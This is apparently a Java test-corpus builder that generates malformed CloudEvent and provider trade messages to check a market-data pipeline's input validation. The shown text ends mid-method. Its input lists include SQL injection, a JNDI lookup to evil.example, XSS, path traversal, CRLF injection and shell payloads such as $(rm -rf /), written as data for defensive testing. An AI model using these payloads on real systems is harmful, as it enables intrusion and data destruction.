package dev.marketfn.reliability;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;

/**
 * Malformed inputs for the normalize function (the door of the pipeline): bad CloudEvent attributes, bad JSON, wrong
 * types, huge and deeply nested payloads, NaN/Infinity, invalid UTF-8 and injection strings in symbols and
 * attributes, plus seeded random mutations of valid provider messages. Every entry is deterministic for a given door
 * and size, and carries what the function must do with it.
 */
final class Corpus {
    static final String RAW = "dev.marketfn.raw.v1";

    enum Mode {
        /** {@code ce-*} headers (HTTP) / {@code ce_*} headers (Kafka), data as the body. */
        BINARY,
        /** {@code application/cloudevents+json} (HTTP only). */
        STRUCTURED,
        /** A request that is not a CloudEvent at all (HTTP only). */
        PLAIN
    }

    enum Expect {
        /** 2xx {@code dev.marketfn.rejected.v1} from normalize and a rejected_events row with a reason. */
        REJECT,
        /** Syntactically fine, semantically impossible (ts years away): normalize may pass it on, quality-check must reject it. */
        REJECT_DOWNSTREAM,
        /** 4xx {@code application/problem+json}: not a CloudEvent, nothing to store. */
        PROBLEM,
        /**
         * A binary-mode request without {@code ce-id}: a stored rejection, or a 4xx problem (the gate recognizes binary
         * mode by {@code ce-id}, so without it the request is "not a CloudEvent"). Either answer ends the delivery.
         */
        REJECT_OR_PROBLEM,
        /** Random mutation of a valid message: any 2xx answer; a rejection must be stored with a reason. */
        ANY_2XX
    }

    /**
     * One input. {@code attrs}: CloudEvent attributes and extensions (null value = header present with no usable
     * value is not modelled; absent key = attribute missing); {@code rawHeaders}: header values given as bytes
     * (Kafka only: invalid UTF-8, NUL).
     */
    record Entry(int n, String category, String label, Mode mode, Map<String, String> attrs,
            Map<String, byte[]> rawHeaders, String contentType, byte[] body, Expect expect, boolean httpOk,
            boolean kafkaOk) {
        String id() {
            return attrs.get("id");
        }

        String type() {
            return attrs.get("type");
        }

        @Override
        public String toString() {
            return "#" + n + " " + category + "/" + label + " (id " + id() + ", " + body.length + " bytes)";
        }
    }

    private final String door;
    private final Instant now = Instant.now().minus(1, ChronoUnit.HOURS).truncatedTo(ChronoUnit.MILLIS);
    private final List<Entry> entries = new ArrayList<>();
    private int next;

    private Corpus(String door) {
        this.door = door;
    }

    /** The corpus for one door ({@code http} or {@code kafka}); ids and payloads differ between doors. */
    static List<Entry> build(String door, int size) {
        Corpus c = new Corpus(door);
        c.envelope();
        c.notCloudEvents();
        c.jsonSyntax();
        c.wrongTypes();
        c.numbers();
        c.timestamps();
        c.huge();
        c.nesting();
        c.utf8();
        c.injection();
        c.structured();
        c.fuzz(Math.max(60, size - c.entries.size()), 20240611L + door.hashCode());
        return c.entries;
    }

    // ---------------------------------------------------------------- templates (valid provider messages)

    private String iso(Instant t) {
        return DateTimeFormatter.ISO_INSTANT.format(t);
    }

    /** A valid one-trade frame of each provider, as a mutable JSON object text with placeholders. */
    private Map<String, Object> template(String provider, int k) {
        Map<String, Object> m = new LinkedHashMap<>();
        Instant ts = now.plusMillis(k);
        switch (provider) {
            case "alpaca" -> {
                m.put("T", "t");
                m.put("S", "CRP");
                m.put("i", 900_000_000L + k);
                m.put("x", "V");
                m.put("p", new Num("190.5"));
                m.put("s", 100);
                m.put("t", iso(ts));
                m.put("c", List.of("@"));
                m.put("z", "C");
            }
            case "polygon" -> {
                m.put("ev", "T");
                m.put("sym", "CRP");
                m.put("i", "c" + k);
                m.put("x", 4);
                m.put("p", new Num("190.5"));
                m.put("s", 100);
                m.put("t", ts.toEpochMilli());
                m.put("q", 800_000_000L + k);
            }
            case "binance" -> {
                m.put("e", "trade");
                m.put("E", ts.toEpochMilli());
                m.put("s", "CRPUSDT");
                m.put("t", 700_000_000L + k);
                m.put("p", "101.25000000");
                m.put("q", "0.50000000");
                m.put("T", ts.toEpochMilli());
                m.put("m", false);
                m.put("M", true);
            }
            case "coinbase" -> {
                m.put("type", "match");
                m.put("trade_id", 600_000_000L + k);
                m.put("side", "buy");
                m.put("size", "0.25000000");
                m.put("price", "2771.48");
                m.put("product_id", "CRP-USD");
                m.put("sequence", 500_000_000L + k);
                m.put("time", iso(ts));
            }
            default -> throw new IllegalArgumentException(provider);
        }
        return m;
    }

    /** Required fields of a trade per provider: symbol, time, price, size, sequence/id, message kind. */
    private static final Map<String, List<String>> REQUIRED = Map.of(
            "alpaca", List.of("T", "S", "t", "i", "p", "s"),
            "polygon", List.of("ev", "sym", "t", "p", "s"),
            "binance", List.of("e", "s", "T", "t", "p", "q"),
            "coinbase", List.of("type", "product_id", "time", "sequence", "price", "size"));
    private static final Map<String, String> SYMBOL_FIELD = Map.of("alpaca", "S", "polygon", "sym", "binance", "s",
            "coinbase", "product_id");
    private static final Map<String, String> PRICE_FIELD = Map.of("alpaca", "p", "polygon", "p", "binance", "p",
            "coinbase", "price");
    static final List<String> PROVIDERS = List.of("alpaca", "polygon", "binance", "coinbase");

    /** A JSON number written verbatim. */
    record Num(String text) {
    }

    /** Raw JSON text written verbatim (for values no Java object maps to). */
    record RawJson(String text) {
    }

    static String json(Object v) {
        StringBuilder sb = new StringBuilder();
        write(sb, v);
        return sb.toString();
    }

    private static void write(StringBuilder sb, Object v) {
        switch (v) {
            case null -> sb.append("null");
            case Num n -> sb.append(n.text());
            case RawJson r -> sb.append(r.text());
            case Number n -> sb.append(n);
            case Boolean b -> sb.append(b);
            case String s -> quote(sb, s);
            case Map<?, ?> m -> {
                sb.append('{');
                boolean first = true;
                for (var e : m.entrySet()) {
                    if (!first) {
                        sb.append(',');
                    }
                    first = false;
                    quote(sb, String.valueOf(e.getKey()));
                    sb.append(':');
                    write(sb, e.getValue());
                }
                sb.append('}');
            }
            case List<?> l -> {
                sb.append('[');
                for (int i = 0; i < l.size(); i++) {
                    if (i > 0) {
                        sb.append(',');
                    }
                    write(sb, l.get(i));
                }
                sb.append(']');
            }
            default -> throw new IllegalArgumentException(v.getClass().toString());
        }
    }

    private static void quote(StringBuilder sb, String s) {
        sb.append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            switch (c) {
                case '"' -> sb.append("\\\"");
                case '\\' -> sb.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        sb.append(String.format("\\u%04x", (int) c));
                    } else {
                        sb.append(c);
                    }
                }
            }
        }
        sb.append('"');
    }

    private String frame(String provider, int k, UnaryOperator<Map<String, Object>> mutate) {
        return json(List.of(mutate.apply(template(provider, k))));
    }

    // ---------------------------------------------------------------- entry builders

    private final class B {
        final String category;
        final String label;
        Mode mode = Mode.BINARY;
        final Map<String, String> attrs = new LinkedHashMap<>();
        final Map<String, byte[]> rawHeaders = new LinkedHashMap<>();
        String contentType = "application/json";
        byte[] body = new byte[0];
        Expect expect = Expect.REJECT;
        boolean http = true;
        boolean kafka = true;

        B(String category, String label, String provider) {
            this.category = category;
            this.label = label;
            attrs.put("specversion", "1.0");
            attrs.put("id", "corpus-" + door + "-" + next);
            attrs.put("type", RAW);
            attrs.put("source", "/providers/" + provider);
            attrs.put("provider", provider);
            attrs.put("subject", "CRP");
            attrs.put("partitionkey", "CRP");
        }

        B attr(String k, String v) {
            if (v == null) {
                attrs.remove(k);
            } else {
                attrs.put(k, v);
            }
            for (char c : (v == null ? "" : v).toCharArray()) {
                if (c < 0x20 || c > 0x7e) {
                    http = false; // not expressible as an HTTP header value
                }
            }
            return this;
        }

        B raw(String k, byte[] v) {
            rawHeaders.put(k, v);
            http = false;
            return this;
        }

        B data(String s) {
            body = s.getBytes(StandardCharsets.UTF_8);
            return this;
        }

        B data(byte[] b) {
            body = b;
            return this;
        }

        B expect(Expect e) {
            expect = e;
            return this;
        }

        B httpOnly() {
            kafka = false;
            return this;
        }

        void add() {
            entries.add(new Entry(next++, category, label, mode, Map.copyOf(attrs), Map.copyOf(rawHeaders), contentType,
                    body, expect, http, kafka));
        }
    }

    private B ce(String category, String label) {
        return new B(category, label, "alpaca");
    }

    private B ce(String category, String label, String provider) {
        return new B(category, label, provider);
    }

    private String validAlpaca() {
        return frame("alpaca", next, m -> m);
    }

    // ---------------------------------------------------------------- categories

    private void envelope() {
        String[] noId = {"", " "};
        ce("attributes", "missing id").attr("id", null).data(validAlpaca()).expect(Expect.REJECT_OR_PROBLEM).add();
        ce("attributes", "missing id, other body").attr("id", null).data(frame("alpaca", 77, m -> m))
                .expect(Expect.REJECT_OR_PROBLEM).add();
        for (String id : noId) {
            ce("attributes", "blank id '" + id + "'").attr("id", id).data(validAlpaca()).add();
        }
        ce("attributes", "missing source").attr("source", null).data(validAlpaca()).add();
        ce("attributes", "blank source").attr("source", " ").data(validAlpaca()).add();
        // a missing or unknown type reaches no function on Kafka (a Trigger filters by type): HTTP only
        ce("attributes", "missing type").attr("type", null).data(validAlpaca()).httpOnly().add();
        for (String t : List.of("dev.marketfn.raw.v2", "dev.marketfn.tick.normalized.v1", "DEV.MARKETFN.RAW.V1",
                "raw", "'; DROP TABLE raw_events; --", "x".repeat(3000))) {
            ce("attributes", "unknown type " + abbreviate(t)).attr("type", t).data(validAlpaca()).httpOnly().add();
        }
        for (String v : List.of("0.3", "2.0", "1", "1.0.0", "")) {
            ce("attributes", "specversion '" + v + "'").attr("specversion", v).data(validAlpaca()).add();
        }
        ce("attributes", "missing specversion").attr("specversion", null).data(validAlpaca()).add();
        for (String ct : List.of("text/plain", "application/xml", "application/octet-stream", "text/csv",
                "multipart/form-data; boundary=x", "application/x-www-form-urlencoded")) {
            B b = ce("attributes", "content-type " + ct).data(validAlpaca());
            b.contentType = ct;
            b.add();
        }
        ce("attributes", "missing provider").attr("provider", null).data(validAlpaca()).add();
        for (String p : List.of("", "nasdaq", "../../etc/passwd", "alpaca'--", "x".repeat(2000),
                "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "polygon;binance")) {
            ce("attributes", "provider '" + abbreviate(p) + "'").attr("provider", p).data(validAlpaca()).add();
        }
        ce("attributes", "provider with NUL").attr("provider", "alp\u0000aca").data(validAlpaca()).add();
        ce("attributes", "provider with RTL override").attr("provider", "alpaca\u202e").data(validAlpaca()).add();
        ce("attributes", "provider invalid UTF-8").raw("provider", new byte[] {'a', 'l', (byte) 0xC3, 0x28})
                .data(validAlpaca()).add();
        ce("attributes", "id with invalid UTF-8, bad data").raw("id", ("corpus-" + door + "-bad-utf8-").getBytes(
                StandardCharsets.UTF_8)).data("{bad").add();
        // ids are free text: odd ones must be stored as given, parameterized (with data that is rejected)
        for (String id : List.of("x'); DROP TABLE raw_events; --", "\" OR 1=1 --", "%s%s%s%n", "../../../",
                "id with spaces and ünïcödé", "${jndi:ldap://evil.example/a}")) {
            ce("attributes", "id '" + abbreviate(id) + "'").attr("id", "corpus-" + door + "-" + next + "-" + id)
                    .data("[{\"T\":\"t\"").add();
        }
        ce("attributes", "id with NUL, bad data").attr("id", "corpus-" + door + "-" + next + "-nul\u0000x").data("[}")
                .add();
        ce("attributes", "subject with NUL").attr("subject", "CRP\u0000").data("[1,2").add();
        ce("attributes", "4 KiB source").attr("source", "/providers/" + "s".repeat(4096)).data("[{]").add();
        ce("attributes", "4 KiB extension").attr("traceparent", "0".repeat(4096)).data("[{]").add();
    }

    private void notCloudEvents() {
        for (String label : List.of("plain JSON POST", "JSON without ce headers", "cloudevents batch",
                "form post", "empty POST")) {
            B b = ce("not a CloudEvent", label).httpOnly();
            b.mode = Mode.PLAIN;
            b.expect = Expect.PROBLEM;
            b.attrs.clear();
            switch (label) {
                case "cloudevents batch" -> {
                    b.contentType = "application/cloudevents-batch+json";
                    b.data("[{\"specversion\":\"1.0\",\"id\":\"b1\",\"type\":\"" + RAW + "\",\"source\":\"/x\"}]");
                }
                case "form post" -> {
                    b.contentType = "application/x-www-form-urlencoded";
                    b.data("symbol=AAPL&price=1");
                }
                case "empty POST" -> b.contentType = "application/json";
                default -> b.data(validAlpaca());
            }
            b.add();
        }
    }

    private void jsonSyntax() {
        String valid = frame("alpaca", 5, m -> m);
        for (int cut = 1; cut < valid.length(); cut += Math.max(1, valid.length() / 24)) {
            ce("bad JSON", "truncated at " + cut).data(valid.substring(0, cut)).add();
        }
        List<String> bad = List.of(valid + "]", valid + "garbage", valid + "{}", "[{'T':'t','S':'CRP'}]",
                "[{T:\"t\",S:\"CRP\"}]", "[{\"T\":\"t\",}]", "[{\"T\":\"t\"},]", "/* c */" + valid, valid + "// c",
                "[{\"T\":\"t\" \"S\":\"CRP\"}]", "[{\"T\":\"t\",\"S\":\"CRP\",\"p\":NaN}]",
                "[{\"T\":\"t\",\"S\":\"CRP\",\"p\":Infinity}]", "[{\"T\":\"t\",\"S\":\"CRP\",\"p\":-Infinity}]",
                "[{\"T\":\"t\",\"p\":01}]", "[{\"T\":\"t\",\"p\":1.}]", "[{\"T\":\"t\",\"p\":.5}]",
                "[{\"T\":\"t\",\"p\":0x1F}]", "[{\"T\":\"t\",\"p\":+1}]", "[{\"T\":\"t\",\"S\":\"C\nRP\"}]",
                "[{\"T\":\"t\",\"S\":\"\\x41\"}]", "[{\"T\":\"t\",\"S\":\"\\u12\"}]", "[\"unterminated]", "{{}}",
                "[[[[", "]]]]", ":", "\"", "\u0000", "null", "true", "12345", "\"just a string\"", " ", "\n\t",
                "[{\"T\":\"t\"}" + "\u0000", "[{\"S\":\"CRP\",\"S\":\"CRP\"", "NaN", "-Infinity",
                "undefined", "[{\"T\":\"t\",\"S\":\"CRP\"}]\u0000trailer");
        for (String s : bad) {
            ce("bad JSON", abbreviate(s)).data(s).add();
        }
        ce("bad JSON", "empty body").data(new byte[0]).add();
        // RFC 8259 §8.1: a parser MAY ignore a byte order mark, so either answer is fine
        ce("bad JSON", "UTF-8 BOM before a valid frame").data("\ufeff" + valid).expect(Expect.ANY_2XX).add();
    }

    private void wrongTypes() {
        List<Object> values = new ArrayList<>();
        values.add(new RawJson("null"));
        values.add(Map.of("a", 1));
        values.add(List.of(1, 2));
        values.add(true);
        values.add("x!");
        values.add(42);
        values.add("");
        for (String provider : PROVIDERS) {
            for (String field : REQUIRED.get(provider)) {
                ce("wrong types", provider + " missing " + field, provider)
                        .data(frame(provider, next, m -> without(m, field))).add();
                for (Object v : values) {
                    if (acceptable(provider, field, v)) {
                        continue;
                    }
                    // Coinbase: "clients are expected to ignore messages they do not support", so a message of an
                    // unknown type is skipped (no records, 2xx), not rejected
                    boolean skipped = provider.equals("coinbase") && field.equals("type") && v instanceof String;
                    ce("wrong types", provider + " " + field + "=" + abbreviate(json(v)), provider)
                            .data(frame(provider, next, m -> with(m, field, v)))
                            .expect(skipped ? Expect.ANY_2XX : Expect.REJECT).add();
                }
            }
            // structure: the message is not an object / the frame is not an array of objects
            ce("wrong types", provider + " message is a string", provider).data("[\"t\"]").add();
            ce("wrong types", provider + " message is a number", provider).data("[42]").add();
            ce("wrong types", provider + " message is null", provider).data("[null]").add();
            ce("wrong types", provider + " frame is a string", provider).data("\"CRP 190.5\"").add();
        }
        // csv: the data must be a JSON string of CSV lines
        String header = "symbol,ts,price,size,seq,conditions\n";
        String ok = "CRP," + iso(now) + ",190.5,100,1,@\n";
        for (String s : List.of(header, "price,size\n1,2\n", header + "CRP,notatime,190.5,100,1,@\n",
                header + "CRP," + iso(now) + ",abc,100,1,@\n", header + "CRP," + iso(now) + ",190.5,-5,1,@\n",
                header + "CRP," + iso(now) + ",190.5,100,x,@\n", header + "CRP," + iso(now) + ",0,100,1,@\n",
                header + "," + iso(now) + ",190.5,100,1,@\n", header + "CR P;--," + iso(now) + ",190.5,100,1,@\n",
                header + "CRP," + iso(now) + "\n", header + "CRP," + iso(now) + ",NaN,100,1,@\n",
                header + "CRP," + iso(now) + ",Infinity,100,1,@\n", header + "\"CRP," + iso(now) + ",1,1,1,@\n")) {
            // a header without rows is an empty file: no records, not an error
            ce("wrong types", "csv " + abbreviate(s.replace('\n', '|')), "csv").data(json(s))
                    .expect(s.equals(header) ? Expect.ANY_2XX : Expect.REJECT).add();
        }
        ce("wrong types", "csv data is an object", "csv").data("{\"csv\":\"" + ok.trim() + "\"}").add();
        ce("wrong types", "csv data is an array", "csv").data(json(List.of(header, ok))).add();
    }

    /** Wrong-type values that a field legitimately accepts (numeric text in a decimal or integer field). */
    private static boolean acceptable(String provider, String field, Object v) {
        return v instanceof Integer && List.of("p", "s", "q", "i", "t", "T", "sequence", "price", "size")
                .contains(field) && !(provider.equals("alpaca") && field.equals("t"))
                && !(provider.equals("coinbase") && field.equals("time"));
    }

    private void numbers() {
        List<Object> bad = List.of("NaN", "Infinity", "-Infinity", "+Infinity", "nan", "inf", "1e999999999",
                new Num("1e999999999"), new Num("-1e999999999"), "1e-999999999", new Num("1E+2147483647"),
                new Num("-0"), new Num("0"), new Num("-190.5"), "0x1A", "1_000", "1,5", "--1", "1e", "",
                new Num("1" + "0".repeat(1200)), new Num("0." + "0".repeat(1200) + "1"));
        for (String provider : PROVIDERS) {
            String price = PRICE_FIELD.get(provider);
            for (Object v : bad) {
                ce("NaN/Infinity/numbers", provider + " price=" + abbreviate(json(v)), provider)
                        .data(frame(provider, next, m -> with(m, price, v))).add();
            }
        }
    }

    private void timestamps() {
        // impossible times: rejected by normalize (not a time) or by quality-check (years away)
        for (String provider : List.of("alpaca", "coinbase")) {
            String f = provider.equals("alpaca") ? "t" : "time";
            for (String t : List.of("2025-02-30T10:00:00Z", "2025-13-01T10:00:00Z", "2025-06-11T25:61:00Z",
                    "2025-06-11 10:00:00", "2025-06-11T10:00:00", "yesterday", "1749648602175",
                    "+999999999-12-31T23:59:59Z")) {
                ce("timestamps", provider + " " + f + "=" + t, provider).data(frame(provider, next, m -> with(m, f, t)))
                        .add();
            }
            for (String t : List.of("2001-09-09T01:46:40Z", "2099-01-01T00:00:00Z", "0001-01-01T00:00:00Z")) {
                ce("timestamps", provider + " " + f + "=" + t, provider).data(frame(provider, next, m -> with(m, f, t)))
                        .expect(Expect.REJECT_DOWNSTREAM).add();
            }
        }
        for (String provider : List.of("polygon", "binance")) {
            String f = provider.equals("polygon") ? "t" : "T";
            for (Object t : List.of(new Num("1e30"), new Num("-1e30"), new Num("9223372036854775808"),
                    new Num("1.5"), "soon")) {
                ce("timestamps", provider + " " + f + "=" + json(t), provider)
                        .data(frame(provider, next, m -> with(m, f, t))).add();
            }
            for (Object t : List.of(new Num("1000000000000"), new Num("4102444800000"), new Num("0"), new Num("-1"))) {
                ce("timestamps", provider + " " + f + "=" + json(t), provider)
                        .data(frame(provider, next, m -> with(m, f, t))).expect(Expect.REJECT_DOWNSTREAM).add();
            }
        }
    }

    private void huge() {
        // > 1 MiB: rejected unparsed (TOO_LARGE); Kafka carries them too (topic max.message.bytes 4 MiB)
        for (int mib : new int[] {1, 2, 3}) {
            int target = mib * (1 << 20) + 4096;
            StringBuilder sb = new StringBuilder("[");
            int k = 0;
            while (sb.length() < target) {
                if (k > 0) {
                    sb.append(',');
                }
                sb.append(json(template("alpaca", 1000 + k++)));
            }
            sb.append(']');
            ce("huge", "valid trades, " + sb.length() + " bytes").data(sb.toString()).add();
            ce("huge", "one string, " + target + " bytes").data(json(List.of(Map.of("T", "t", "S",
                    "C".repeat(target))))).add();
            ce("huge", "broken JSON, " + target + " bytes").data("[" + "{\"T\":\"t\",".repeat(target / 10)).add();
        }
        ce("huge", "1 MiB + 1 byte of spaces").data("[" + " ".repeat(1 << 20) + "]").add();
        // exactly at the limit is allowed (and not a valid frame here: rejected for its content)
        ce("huge", "just under 1 MiB, wrong content").data("[\"" + "x".repeat((1 << 20) - 6) + "\"]").add();
    }

    private void nesting() {
        for (int depth : new int[] {65, 100, 1000, 10_000, 100_000}) {
            ce("deep nesting", "arrays " + depth).data("[".repeat(depth) + "]".repeat(depth)).add();
            ce("deep nesting", "objects " + depth).data("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)).add();
            ce("deep nesting", "unclosed " + depth).data("[".repeat(depth)).add();
        }
        ce("deep nesting", "trade inside 70 arrays").data("[".repeat(70) + json(template("alpaca", 3)) + "]".repeat(70))
                .add();
    }

    private void utf8() {
        byte[][] bad = {
            {(byte) 0xC3, 0x28}, {(byte) 0xA0, (byte) 0xA1}, {(byte) 0xE2, 0x28, (byte) 0xA1},
            {(byte) 0xE2, (byte) 0x82, 0x28}, {(byte) 0xF0, 0x28, (byte) 0x8C, (byte) 0xBC},
            {(byte) 0xF0, (byte) 0x90, 0x28, (byte) 0xBC}, {(byte) 0xFF}, {(byte) 0xFE}, {(byte) 0xC0, (byte) 0xAF},
            {(byte) 0xE0, (byte) 0x80, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0x80}, {(byte) 0xC3}};
        for (int i = 0; i < bad.length; i++) {
            String provider = PROVIDERS.get(i % PROVIDERS.size());
            String symField = SYMBOL_FIELD.get(provider);
            String marker = "@@BAD@@";
            String text = frame(provider, next, m -> with(m, symField, "CR" + marker));
            ce("invalid UTF-8", provider + " symbol " + hex(bad[i]), provider).data(splice(text, marker, bad[i])).add();
            String p = PRICE_FIELD.get(provider);
            String text2 = frame(provider, next, m -> with(m, p, "19" + marker));
            ce("invalid UTF-8", provider + " price " + hex(bad[i]), provider).data(splice(text2, marker, bad[i])).add();
        }
        // escaped lone surrogates are valid JSON but not text
        for (String s : List.of("\\ud800", "\\udfff", "CRP\\ud83d", "\\u0000", "CRP\\u0000X")) {
            ce("invalid UTF-8", "escaped " + s, "alpaca").data("[{\"T\":\"t\",\"S\":\"" + s + "\",\"i\":" + next
                    + ",\"p\":1,\"s\":1,\"t\":\"" + iso(now) + "\"}]").add();
        }
    }

    static final List<String> INJECTIONS = List.of("'; DROP TABLE ticks; --", "CRP' OR '1'='1", "CRP\"; DELETE FROM raw_events; --",
            "1;SELECT pg_sleep(30)", "CRP)--", "CRP\u0000", "\u0000", "CRP\u0000; DROP TABLE ticks", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "../../etc/passwd", "..\\..\\windows", "%00", "%s%s%s%n",
            "CRP\r\nX-Injected: 1", "CRP\nSYMBOL2", "\t", " ", "", "CRP\u202eLPA", "𝔸𝔸ℙ𝕃", "ＡＡＰＬ", "C\u0301RP", "😀",
            "CRP$", "CRP*", "CRP?", "CRP|BAD", "$(rm -rf /)", "`id`", "CRP;", "--", "CRP'", "\\", "\"", "\u007f",
            "\ufffd", "\ud800");

    private void injection() {
        for (String provider : PROVIDERS) {
            String f = SYMBOL_FIELD.get(provider);
            for (String inj : INJECTIONS) {
                String sym = provider.equals("binance") || provider.equals("coinbase") ? inj + (provider.equals("binance")
                        ? "USDT" : "-USD") : inj;
                // a symbol that is valid once surrounding control characters are trimmed may be accepted
                boolean trimsToValid = sym.trim().matches("[A-Z0-9.]+") && !sym.trim().equals(sym);
                ce("injection in symbol", provider + " " + abbreviate(printable(sym)), provider)
                        .data(frame(provider, next, m -> with(m, f, sym)))
                        .expect(trimsToValid ? Expect.ANY_2XX : Expect.REJECT).add();
            }
        }
        // subject for providers that take the instrument from it (IB RTVolume): injections there too
        for (String inj : List.of("'; DROP TABLE ticks; --", "<script>", "../x", "CRP\u0000")) {
            boolean trimsToValid = inj.trim().matches("[A-Z0-9.]+") && !inj.trim().equals(inj);
            ce("injection in symbol", "ibkr subject " + abbreviate(printable(inj)), "ibkr").attr("subject", inj)
                    .data("{\"type\":\"RTVolume\",\"value\":\"190.5;100;" + now.toEpochMilli() + ";100;190.5;true\"}")
                    .expect(trimsToValid ? Expect.ANY_2XX : Expect.REJECT).add();
        }
    }

    private void structured() {
        String valid = frame("alpaca", 11, m -> m);
        List<String[]> bodies = List.of(
                new String[] {"not JSON", "{\"specversion\":\"1.0\",\"id\":"},
                new String[] {"array", "[1,2,3]"},
                new String[] {"string", "\"event\""},
                new String[] {"empty object", "{}"},
                new String[] {"missing id", "{\"specversion\":\"1.0\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":" + valid + "}"},
                new String[] {"missing type", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":" + valid + "}"},
                new String[] {"type is a number", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":42,\"source\":\"/providers/alpaca\",\"data\":" + valid + "}"},
                new String[] {"id is an object", "{\"specversion\":\"1.0\",\"id\":{\"x\":1},\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":" + valid + "}"},
                new String[] {"data is a string", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":\"[{]\"}"},
                new String[] {"data_base64 garbage", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data_base64\":\"!!!\"}"},
                new String[] {"provider missing", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"data\":" + valid + "}"},
                new String[] {"wrong types in data", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":[{\"T\":\"t\",\"S\":7,\"p\":\"x\"}]}"},
                new String[] {"unknown type", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"dev.marketfn.nope.v1\",\"source\":\"/x\",\"data\":{}}"},
                new String[] {"specversion 0.3", "{\"specversion\":\"0.3\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":" + valid + "}"},
                new String[] {"deep data", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":" + "[".repeat(5000) + "]".repeat(5000) + "}"},
                new String[] {"injection symbol", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":" + frame("alpaca", 12, m -> with(m, "S", "'; DROP TABLE ticks; --")) + "}"},
                new String[] {"NaN literal in data", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":[{\"p\":NaN}]}"},
                new String[] {"huge data", "{\"specversion\":\"1.0\",\"id\":\"@ID\",\"type\":\"" + RAW + "\",\"source\":\"/providers/alpaca\",\"provider\":\"alpaca\",\"data\":[\"" + "x".repeat(1_200_000) + "\"]}"});
        for (String[] b : bodies) {
            B e = ce("structured mode", b[0]).httpOnly();
            e.mode = Mode.STRUCTURED;
            e.contentType = "application/cloudevents+json";
            String id = "corpus-" + door + "-" + next;
            if (!b[1].contains("@ID")) {
                e.attrs.remove("id");
            } else {
                e.attrs.put("id", id);
            }
            e.data(b[1].replace("@ID", id));
            e.add();
        }
    }

    /** Seeded random mutations of valid frames: byte flips, cuts, duplications, splices of bad values. */
    private void fuzz(int count, long seed) {
        Random r = new Random(seed);
        String[] junk = {"\"", "{", "}", "[", "]", ",", ":", "null", "-", "e9", "\\", "\u0000", "NaN", "'", "999999999999999999999"};
        for (int i = 0; i < count; i++) {
            String provider = PROVIDERS.get(r.nextInt(PROVIDERS.size()));
            byte[] b = frame(provider, next, m -> m).getBytes(StandardCharsets.UTF_8);
            int ops = 1 + r.nextInt(3);
            for (int o = 0; o < ops && b.length > 2; o++) {
                int at = r.nextInt(b.length);
                switch (r.nextInt(4)) {
                    case 0 -> b[at] = (byte) r.nextInt(256);
                    case 1 -> b = java.util.Arrays.copyOf(b, at);
                    case 2 -> b = splice(new String(b, StandardCharsets.ISO_8859_1), at,
                            junk[r.nextInt(junk.length)].getBytes(StandardCharsets.UTF_8));
                    default -> {
                        int len = Math.min(b.length - at, 1 + r.nextInt(8));
                        byte[] out = new byte[b.length - len];
                        System.arraycopy(b, 0, out, 0, at);
                        System.arraycopy(b, at + len, out, at, b.length - at - len);
                        b = out;
                    }
                }
            }
            ce("random mutation", provider + " seed " + seed + " #" + i, provider).data(b).expect(Expect.ANY_2XX).add();
        }
    }

    // ---------------------------------------------------------------- helpers

    private static Map<String, Object> with(Map<String, Object> m, String field, Object v) {
        m.put(field, v);
        return m;
    }

    private static Map<String, Object> without(Map<String, Object> m, String field) {
        m.remove(field);
        return m;
    }

    private static byte[] splice(String text, String marker, byte[] insert) {
        int at = text.indexOf(marker);
        byte[] before = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
        byte[] after = text.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(before);
        out.writeBytes(insert);
        out.writeBytes(after);
        return out.toByteArray();
    }

    private static byte[] splice(String latin1, int at, byte[] insert) {
        byte[] b = latin1.getBytes(StandardCharsets.ISO_8859_1);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(b, 0, at);
        out.writeBytes(insert);
        out.write(b, at, b.length - at);
        return out.toByteArray();
    }

    private static String hex(byte[] b) {
        StringBuilder sb = new StringBuilder();
        for (byte x : b) {
            sb.append(String.format("%02X", x & 0xff));
        }
        return sb.toString();
    }

    static String abbreviate(String s) {
        return s.length() > 40 ? s.substring(0, 37) + "…(" + s.length() + ")" : s;
    }

    static String printable(String s) {
        StringBuilder sb = new StringBuilder();
